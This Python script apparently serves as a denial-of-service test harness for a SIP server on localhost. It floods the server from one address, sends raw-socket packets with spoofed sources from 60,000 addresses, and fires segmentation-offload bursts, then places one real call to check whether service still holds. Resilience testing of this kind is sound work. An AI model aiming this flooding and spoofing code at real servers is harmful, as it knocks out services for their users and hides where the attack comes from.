"""A program that sends datagrams as an attacker does, in whatever network it is started in, and prints what came back.

    attacker.py flood PORT KIND COUNT RATE SOURCE     from an address; COUNT of a KIND of messages.py, RATE a second
    attacker.py spoof PORT KIND COUNT RATE FIRST      from 60,000 addresses from FIRST on, in datagrams that it makes whole
    attacker.py overwhelm PORT KIND COUNT RATE SOURCE as `flood`, by the burst that the kernel cuts: as fast as a core can
    attacker.py call PORT                             calls 858 by way of 127.0.0.1:PORT, as any caller does
"""

import collections
import ipaddress
import json
import re
import socket
import struct
import sys
import time

from messages import FLOODS, From, request

HOST = "127.0.0.1"
# What is counted of a call that was accepted, beside the answer.
ACCEPTED = "SIP/2.0 2xx to INVITE"
# Of `linux/udp.h`: into so many pieces older kernels cut at most.
UDP_SEGMENT = 103
MOST_SEGMENTS = 64
# RFC 3261 section 17.1.1.1, T1.
T1 = 0.5


def flood(port, kind, count, rate, source):
    """From one address."""
    with bound(source) as sender:
        answers = collections.Counter()
        sender.setblocking(False)

        def send(datagram):
            sender.sendto(datagram, (HOST, port))
            hear(sender, answers)

        took = paced(FLOODS[kind](From(sender.getsockname()), count), rate, send)
        # Whoever is answered at all is answered by then.
        over = time.monotonic() + 0.3
        while time.monotonic() < over:
            time.sleep(0.005)
            hear(sender, answers)
    return {"sent": count, "took": took, "answers": answers}


def spoof(port, kind, count, rate, first):
    """From ever other addresses. Nothing can come back."""
    first, target = int(ipaddress.ip_address(first)), socket.inet_aton(HOST)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        numbers = iter(range(count))

        def send(datagram):
            number = next(numbers)
            source = struct.pack(">I", first + number % 60_000)
            # IP and UDP, without a checksum that anybody looks at here.
            ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(datagram), 0, 0, 64, 17, 0, source, target)
            udp = struct.pack(">HHHH", 1024 + number % 60_000, port, 8 + len(datagram), 0)
            sender.sendto(ip + udp + datagram, (HOST, 0))

        took = paced(FLOODS[kind](From((str(ipaddress.ip_address(first)), 5060)), count), rate, send)
    return {"sent": count, "took": took, "answers": {}}


def overwhelm(port, kind, count, rate, source):
    """From one address, the same datagram again and again, more than anybody can read."""
    with bound(source) as sender:
        sender.connect((HOST, port))
        datagram = next(iter(FLOODS[kind](From(sender.getsockname()), 1)))
        at_once = min(MOST_SEGMENTS, 60_000 // len(datagram))
        sender.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(datagram))
        bursts = count // at_once
        took = paced((datagram * at_once for _ in range(bursts)), rate / at_once, sender.send)
    return {"sent": bursts * at_once, "took": took, "answers": {}}


def paced(datagrams, rate, send):
    """Sends at a rate, in bursts of a hundredth of a second. Returns how long it took."""
    began = time.monotonic()
    for number, datagram in enumerate(datagrams):
        ahead = number / rate - (time.monotonic() - began)
        if ahead > 0.01:
            time.sleep(ahead)
        send(datagram)
    return time.monotonic() - began


def hear(receiver, answers):
    """Counts what has come, by its status."""
    while True:
        try:
            heard = receiver.recv(65536)
        except BlockingIOError:
            return
        answers[heard.split(b"\r\n")[0].decode(errors="replace")] += 1
        if heard.startswith(b"SIP/2.0 2") and re.search(rb"^CSeq:.*INVITE", heard, re.M):
            answers[ACCEPTED] += 1


def call(port):
    """One call, to the end. INVITE is repeated as it is over UDP."""
    with bound(HOST) as caller:
        sender = From(caller.getsockname())
        invite, began = request(sender, "INVITE", 0), time.monotonic()
        status, wait = "", T1
        while not status and wait < 8:
            caller.sendto(invite, (HOST, port))
            status, wait = final(caller, wait), 2 * wait
        took = time.monotonic() - began
        to = next((line for line in status.split("\r\n") if line.startswith("To:")), "To: nobody")
        first = f"ACK sip:858@{HOST} SIP/2.0\r\n"
        ack = request(sender, "ACK", 0).decode().partition("\r\n")[2].replace(f"To: <sip:858@{HOST}>", to)
        caller.sendto((first + ack).encode(), (HOST, port))
    return {"status": status.split("\r\n")[0], "took": took}


def final(caller, wait):
    """The final response that comes within a time, or nothing."""
    deadline = time.monotonic() + wait
    while (left := deadline - time.monotonic()) > 0:
        caller.settimeout(left)
        try:
            heard = caller.recv(65536).decode(errors="replace")
        except TimeoutError:
            return ""
        if not heard.startswith("SIP/2.0 1"):
            return heard
    return ""


def bound(address):
    """A UDP socket of an address."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.bind((address, 0))
    return made


if __name__ == "__main__":
    does, port, *others = sys.argv[1:]
    if does == "call":
        print(json.dumps(call(int(port))))
    else:
        kind, count, rate, source = others
        attack = {"flood": flood, "overwhelm": overwhelm, "spoof": spoof}[does]
        print(json.dumps(attack(int(port), kind, int(count), float(rate), source)))
